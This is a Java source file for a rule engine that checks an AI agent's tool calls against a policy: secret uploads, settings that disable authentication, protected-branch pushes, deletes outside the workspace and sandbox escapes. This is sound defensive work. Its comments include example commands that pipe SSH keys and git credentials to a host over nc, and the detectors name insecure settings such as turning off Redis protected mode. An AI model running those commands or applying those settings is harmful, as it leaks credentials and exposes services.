package dev.hydra.constitution.rules;

import dev.hydra.constitution.rules.facts.Extractor;
import dev.hydra.constitution.rules.facts.Facts;
import dev.hydra.constitution.rules.facts.Programs;
import dev.hydra.constitution.rules.facts.Recorder;
import dev.hydra.constitution.rules.shell.Shell;
import dev.hydra.constitution.rules.sql.Sql;
import dev.hydra.constitution.rules.text.Budget;
import dev.hydra.constitution.rules.text.PathGlob;
import dev.hydra.constitution.rules.text.Secrets;
import dev.hydra.constitution.rules.text.Text;

import dev.hydra.topics.events.Decision;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * One detection of the constitution, compiled from its YAML entry, tested against the {@link Facts}
 * of a task or tool call. {@link #test} returns why it matched, or null.
 */
interface Rule {

    String test(Facts f);

    /** A rule with the constraint it belongs to and the decision that constraint takes. */
    record Bound(String constraint, Decision decision, Rule rule) {
        Ruling apply(Facts f) {
            String why = rule.test(f);
            return why == null ? null : new Ruling(decision, constraint, why);
        }
    }

    // ------------------------------------------------------------------ immutable constraint detections

    /** {@code pattern} in SQL: the regex against each statement's canonical renderings. */
    record SqlPattern(Pattern regex) implements Rule {
        @Override
        public String test(Facts f) {
            for (Sql.Statement st : f.statements) {
                for (String r : st.renderings()) {
                    if (regex.matcher(r).lookingAt()) { // the statement does it, not mentions it
                        return "SQL statement matches '" + regex.pattern() + "': " + Recorder.shorten(r);
                    }
                }
            }
            return null;
        }
    }

    /** {@code tool}: an operation by that tool (glob), optionally {@code with} a word or containing secrets. */
    record Tool(String glob, Pattern tool, String with, Secrets secrets) implements Rule {
        @Override
        public String test(Facts f) {
            for (Facts.Op op : f.ops) {
                if (!tool.matcher(op.tool()).matches()) {
                    continue;
                }
                if (with != null) {
                    if (!op.statements().isEmpty() || op.tool().endsWith("execute_sql")) {
                        for (Sql.Statement st : op.statements()) {
                            if (st.verb().equals(with)) {
                                return op.via() + " runs " + Recorder.shorten(st.rendering());
                            }
                        }
                        continue;
                    }
                    if (!Text.fold(op.text()).contains(Text.fold(with))) {
                        continue;
                    }
                }
                if (secrets != null) {
                    List<Secrets.Found> found = secrets.find(op.text());
                    if (found.isEmpty()) {
                        continue;
                    }
                    return op.via() + " would send a secret (" + found.get(0).kind() + ")";
                }
                return op.via() + " is " + glob + (op.text().isEmpty() ? "" : " on " + Recorder.shorten(op.text().strip()));
            }
            return null;
        }
    }

    /** {@code file_write}: a write (or delete) of a path matching the glob, with its qualifiers. */
    record FileWrite(PathGlob path, String with, Pattern withPattern, List<PathGlob> publicOnly, Secrets secrets)
            implements Rule {
        @Override
        public String test(Facts f) {
            for (Facts.Write w : f.writes) {
                if (w.delete() && (publicOnly != null || secrets != null)) {
                    continue;
                }
                if (!path.matches(w.path(), w.glob())) {
                    continue;
                }
                if (publicOnly != null && !anyMatch(publicOnly, w)) {
                    continue;
                }
                if (with != null && w.content() != null && !withPattern.matcher(w.content()).find()) {
                    continue;
                }
                if (secrets != null) {
                    if (w.content() == null) {
                        continue;
                    }
                    if (w.content().startsWith("[secret file ")) {
                        return w.describe() + " from a secret file";
                    }
                    List<Secrets.Found> found = secrets.find(w.content());
                    if (found.isEmpty()) {
                        continue;
                    }
                    return w.describe() + " with a secret (" + found.get(0).kind() + ") to a public location";
                }
                String qualifier = with == null ? "" : w.content() == null
                        ? " (content unknown, may contain '" + with + "')" : " containing '" + with + "'";
                return w.describe() + qualifier + (publicOnly != null ? " (a public location)" : "");
            }
            return null;
        }
    }

    private static boolean anyMatch(List<PathGlob> globs, Facts.Write w) {
        for (PathGlob g : globs) {
            if (g.matches(w.path(), w.glob())) {
                return true;
            }
        }
        return false;
    }

    /** {@code command}: a program (or one of its equivalents) run anywhere in a command. */
    record Command(String name, Programs programs, Secrets secrets) implements Rule {
        @Override
        public String test(Facts f) {
            for (Shell.Exec e : f.execs) {
                if (e.argv().isEmpty()) {
                    continue;
                }
                String match = programs.match(e);
                if (match == null) {
                    continue;
                }
                if (secrets != null) {
                    String args = String.join(" ", e.argv());
                    List<Secrets.Found> found = secrets.find(args);
                    boolean secretFile = uploadsSecretFile(e) || readsSecretFile(f);
                    if (found.isEmpty() && !secretFile) {
                        continue;
                    }
                    return "command " + match + " would expose a secret ("
                            + (found.isEmpty() ? "secret file" : found.get(0).kind()) + ")";
                }
                return "command runs " + match;
            }
            return null;
        }
    }

    /**
     * A sender given a secret file: as an operand, an option's value (-T, --upload-file, --post-file=,
     * -F key=@file, -d @file) or its standard input (nc host < ~/.ssh/id_rsa).
     */
    private static boolean uploadsSecretFile(Shell.Exec e) {
        for (String a : e.argv().subList(1, e.argv().size())) {
            Budget.tick();
            if (a.startsWith("[secret file ")) {
                return true;
            }
            String candidate = a.substring(Math.max(a.lastIndexOf('@'), a.indexOf('=')) + 1);
            if (!candidate.isEmpty() && Recorder.isSecretPath(PathGlob.canonical(candidate, "/root"))) {
                return true;
            }
        }
        for (Shell.Redirect r : e.redirects()) {
            if (!r.writes() && Recorder.isSecretPath(PathGlob.canonical(r.target(), "/root"))) {
                return true;
            }
        }
        return false;
    }

    /** Some program of the same command reads a secret file (cat ~/.git-credentials | nc host 9000). */
    private static boolean readsSecretFile(Facts f) {
        for (Shell.Exec e : f.execs) {
            if (!e.argv().isEmpty() && uploadsSecretFile(e)) {
                return true;
            }
        }
        return false;
    }

    /** {@code config_change}: a setting that turns the named thing on (or its opposite off). */
    record ConfigChange(String name) implements Rule {
        @Override
        public String test(Facts f) {
            for (Facts.Setting s : f.settings) {
                if (matches(s.key(), s.value())) {
                    return s.via() + " sets " + s.key() + "=" + Recorder.shorten(s.value());
                }
            }
            return null;
        }

        boolean matches(String key, String value) {
            boolean on = !Recorder.falsy(value);
            if (key.equals(name) || key.endsWith("_" + name) || key.startsWith(name + "_")
                    || key.contains("_" + name + "_")) {
                return on;
            }
            String v = Text.fold(value).strip();
            if (name.startsWith("DISABLE_")) {
                String thing = name.substring("DISABLE_".length());
                if (thing.equals("AUTH")) {
                    Boolean open = opensAuth(key, on, v);
                    if (open != null) {
                        return open;
                    }
                }
                if (!key.contains(thing)) {
                    return false;
                }
                if (key.contains("DISABLE") || key.startsWith("NO_") || key.contains("SKIP") || key.contains("BYPASS")) {
                    return on;
                }
                if (key.contains("ENABLE") || key.contains("REQUIRE") || key.contains("ENFORCE") || key.endsWith("_ON")) {
                    return !on;
                }
                return key.endsWith(thing) || key.endsWith(thing + "ENTICATION") || key.endsWith(thing + "ORIZATION")
                        || key.endsWith(thing + "_BASIC") || key.endsWith("_MODE") || key.endsWith("_TYPE") || key.endsWith("_METHOD")
                        || key.endsWith("_BACKEND") || key.endsWith("_PROVIDER")
                        ? Set.of("none", "off", "disabled", "false", "0", "no", "trust", "noop", "anonymous").contains(v)
                        : false;
            }
            if (name.startsWith("NO_")) {
                String thing = name.substring("NO_".length());
                if (key.contains("AUTH_METHOD") || key.contains("AUTH_TYPE")) {
                    return v.equals("trust") || v.equals("none");
                }
                if (!key.contains(thing)) {
                    return false;
                }
                if (key.endsWith(thing) && (value.equals("''") || value.equals("\"\""))) {
                    return true; // c.ServerApp.password = '': explicitly empty
                }
                if (key.contains("EMPTY") || key.contains("SKIP") || key.contains("DISABLE") || key.startsWith("NO_")) {
                    return on;
                }
                if (key.contains("REQUIRE") || key.contains("ENABLE") || key.contains("ENFORCE")) {
                    return !on;
                }
                return false;
            }
            return false;
        }
    }

    /**
     * Settings that switch authentication off without naming it: a service opened to anonymous users
     * or everyone (ALLOW_ANONYMOUS=1, allow.everyone.if.no.acl.found=true), a guard lowered (redis
     * protected-mode no), security or login switched off (xpack.security.enabled: false,
     * LOGIN_DISABLED = True), the security auto-configuration excluded (Spring). Null when the key
     * is none of these, so the generic reading applies.
     */
    private static Boolean opensAuth(String key, boolean on, String value) {
        if (key.contains("ANONYMOUS") && !key.contains("ANONYMOUS_USAGE") && !key.contains("ANONYMOUS_STAT")
                || key.contains("ALLOW_EVERYONE") || key.endsWith("INSECURE") || key.contains("NO_AUTH")) {
            return on;
        }
        if (key.endsWith("PROTECTED_MODE")) {
            return !on;
        }
        if (key.endsWith("SECURITY_ENABLED") || key.endsWith("LOGIN_ENABLED") || key.endsWith("LOGIN_REQUIRED")) {
            return !on;
        }
        if (key.endsWith("LOGIN_DISABLED") || key.endsWith("SECURITY_DISABLED")) {
            return on;
        }
        if (key.contains("AUTOCONFIGURE_EXCLUDE")) {
            return value.contains("security");
        }
        return null;
    }

    /** {@code git_command}: a push that may update the named branch (or another git invocation). */
    record GitCommand(String words, String subcommand, String branch) implements Rule {
        @Override
        public String test(Facts f) {
            if (subcommand.equals("push")) {
                for (Facts.Push p : f.pushes) {
                    if (p.branch().equals(Facts.Push.UNKNOWN) || p.branch().indexOf(Shell.UNKNOWN) >= 0) {
                        return p.via() + " pushes to a branch that cannot be determined (may be " + branch + ")";
                    }
                    if (branch == null || p.branch().equals(branch) || PathGlob.isGlob(p.branch())
                            && PathGlob.intersects(PathGlob.tokens(p.branch()), PathGlob.tokens(branch))) {
                        return p.via() + " pushes to " + p.branch() + (p.remote().isEmpty() ? "" : " on " + p.remote());
                    }
                }
                return null;
            }
            for (Shell.Exec e : f.execs) {
                if (e.program().equals("git") && String.join(" ", e.argv()).toLowerCase(Locale.ROOT).contains(words)) {
                    return "command runs git " + words;
                }
            }
            return null;
        }
    }

    /** {@code git_commit: containing_secrets}: a commit whose message, files or file names hold secrets. */
    record GitCommit(Secrets secrets) implements Rule {
        @Override
        public String test(Facts f) {
            for (Facts.Commit c : f.commits) {
                for (String file : c.files()) {
                    if (Recorder.isSecretFile(file)) {
                        return c.via() + " commits the secret file " + file;
                    }
                }
                List<Secrets.Found> found = secrets.find(c.text());
                if (!found.isEmpty()) {
                    return c.via() + " commits a secret (" + found.get(0).kind() + ")";
                }
            }
            return null;
        }
    }

    // ------------------------------------------------------------------ supervised operations

    /** file_delete_outside_workspace: a delete of a path none of the excluded globs covers. */
    record DeleteOutside(List<PathGlob> excluded) implements Rule {
        @Override
        public String test(Facts f) {
            for (Facts.Write w : f.writes) {
                if (!w.delete()) {
                    continue;
                }
                String path = w.path();
                if (PathGlob.isGlob(path)) {
                    // a wildcard deletes inside its fixed directory part: that part must be inside
                    path = PathGlob.fixedDirectory(path) + "/x";
                }
                String p = path;
                if (excluded.stream().noneMatch(g -> g.matches(p))) {
                    return w.describe() + " (outside the workspace)";
                }
            }
            return null;
        }
    }

    /** service_stop and container_remove: a stop or removal of a listed name (or an unknown one). */
    record Names(String what, List<String> names, boolean removal) implements Rule {
        @Override
        public String test(Facts f) {
            for (Facts.Named n : removal ? f.removals : f.stops) {
                String hit = hit(n.name());
                if (hit != null) {
                    return n.via() + " " + what + " " + hit;
                }
            }
            return null;
        }

        private String hit(String name) {
            if (name.indexOf(Shell.UNKNOWN) >= 0 || PathGlob.isGlob(name)) {
                for (String listed : names) {
                    if (PathGlob.intersects(PathGlob.tokens("*" + name.replace(Shell.UNKNOWN, '*') + "*"),
                            PathGlob.tokens(listed))) {
                        return name.replace(Shell.UNKNOWN, '?').equals("?") ? "(unknown: may be " + listed + ")"
                                : name.replace(Shell.UNKNOWN, '?') + " (may be " + listed + ")";
                    }
                }
                return null;
            }
            for (String part : name.split("[^a-z0-9]+")) {
                for (String listed : names) {
                    if (part.startsWith(listed)) {
                        return name;
                    }
                }
            }
            return null;
        }
    }

    /** database_migration: schema changes on a listed database, or on one that cannot be determined. */
    record Migration(List<String> databases) implements Rule {
        @Override
        public String test(Facts f) {
            for (Facts.Named m : f.migrations) {
                if (m.name().indexOf(Shell.UNKNOWN) >= 0) {
                    return m.via() + " changes the schema of a database that cannot be determined (may be "
                            + String.join(" or ", databases) + ")";
                }
                for (String part : m.name().split("[^a-z0-9_]+")) {
                    if (databases.contains(part)) {
                        return m.via() + " changes the schema of " + m.name();
                    }
                }
            }
            return null;
        }
    }

    /** always_sandbox_code: code asking to run with network or outside the sandbox. */
    record Sandbox() implements Rule {
        @Override
        public String test(Facts f) {
            return f.sandboxEscapes.isEmpty() ? null
                    : f.sandboxEscapes.get(0).via() + " asks to run outside the sandbox: " + f.sandboxEscapes.get(0).name();
        }
    }

    /** Compiles {@code server.tool} globs. */
    static Pattern toolPattern(String glob) {
        StringBuilder r = new StringBuilder();
        for (char c : Text.fold(glob).toCharArray()) {
            r.append(c == '*' ? ".*" : c == '?' ? "." : Pattern.quote(String.valueOf(c)));
        }
        return Pattern.compile(r.toString());
    }

    /** A {@code with} text as a pattern; an attribute prefix like {@code networking.} also matches {@code networking = {}. */
    static Pattern withPattern(String with) {
        String w = Text.fold(with);
        String quoted = Pattern.quote(w);
        if (w.endsWith(".")) {
            quoted = "(?:" + quoted + "|" + Pattern.quote(w.substring(0, w.length() - 1)) + "\\s*=\\s*\\{)";
        }
        return Pattern.compile(quoted, Pattern.CASE_INSENSITIVE);
    }
}
